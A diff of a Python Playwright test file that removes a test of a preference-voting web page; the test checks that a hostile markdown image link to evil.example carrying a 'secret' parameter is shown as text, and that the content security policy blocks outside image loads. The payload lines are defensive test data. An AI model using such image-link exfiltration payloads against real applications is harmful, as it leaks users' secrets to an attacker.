@@ -57,49 +57,6 @@ def test_writing_and_importing_demonstrations(server: Server, tab: Watched, tmp_
     assert tab.complaints == []
 
 
-def press(page: Page, key: str) -> None:
-    """Press a key on the pair that is shown, and wait until the next pair's buttons are there."""
-    button = page.locator("[class*='st-key-vote_tie_']")
-    shown = next(name for name in (button.get_attribute("class") or "").split() if name.startswith("st-key-vote_tie_"))
-    page.keyboard.press(key)
-    expect(page.locator(f".{shown}")).to_have_count(0)
-    expect(button).to_be_visible()
-
-
-def test_voting_with_the_keyboard_on_hostile_text(server: Server, tab: Watched) -> None:
-    with Workspace.open(server.workspace) as ws:
-        seeding.demonstrations(ws)
-        seeding.pairs(ws, "base", "base", number=3, evil=True)
-    server.start()
-    page = tab.page
-    tab.open(server, "preferences")
-    give_name(page, "Ada")
-    expect(page.get_by_text("0 votes by you, 3 pairs left")).to_be_visible()
-    expect(page.get_by_text("![x](https://evil.example/leak.png?secret=1)")).to_be_visible()
-    assert page.locator("img[src*='evil']").count() == 0
-    press(page, "1")
-    expect(page.get_by_text("1 vote by you, 2 pairs left")).to_be_visible()
-    press(page, "2")
-    expect(page.get_by_text("2 votes by you, 1 pair left")).to_be_visible()
-    press(page, "u")
-    expect(page.get_by_text("1 vote by you, 2 pairs left")).to_be_visible()
-    assert tab.outside == []
-    assert tab.complaints == []
-
-    # Even if some text were rendered one day, the policy lets no picture in from elsewhere.
-    blocked = page.evaluate(
-        """() => new Promise((resolve) => {
-            document.addEventListener("securitypolicyviolation", (event) => resolve(event.violatedDirective));
-            new Image().src = "https://evil.example/leak.png";
-            setTimeout(() => resolve("nothing was blocked"), 5000);
-        })"""
-    )
-    assert blocked == "img-src"
-    server.stop()
-    with Workspace.open(server.workspace) as ws:
-        assert [vote.simulated for vote in ws.votes.live()] == [False]
-
-
 def badge(page: Page, state: str) -> Locator:
     """The run's state; its icon is text, too."""
     return page.locator("p", has_text=re.compile(rf"^\w+ ?{state}$"))
